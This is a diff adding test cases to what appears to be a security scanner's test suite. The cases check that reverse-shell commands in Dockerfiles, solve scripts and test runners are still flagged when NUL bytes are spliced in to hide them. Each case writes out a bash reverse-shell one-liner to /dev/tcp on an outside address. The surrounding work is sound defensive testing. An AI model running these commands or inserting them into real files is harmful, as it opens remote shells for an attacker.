@@ -100,3 +100,13 @@ test('whatever stands in the files, there is an answer', async () => {
     { numRuns: 300 },
   )
 })
+
+test.each([
+  ['environment/Dockerfile', 'FROM a\n# \0\nRUN bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
+  ['environment/Dockerfile', 'FROM a\nRUN ba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
+  ['solution/solve.sh', '#!/bin/bash\n\0\nba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
+  ['tests/run', '#!/bin/bash\n\0\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
+])('a NUL in %s hides nothing', async (path, text) => {
+  const { findings } = await checkFiles(changed({ [path]: text }))
+  expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([expect.stringMatching(/^reverse_shell/)]))
+})
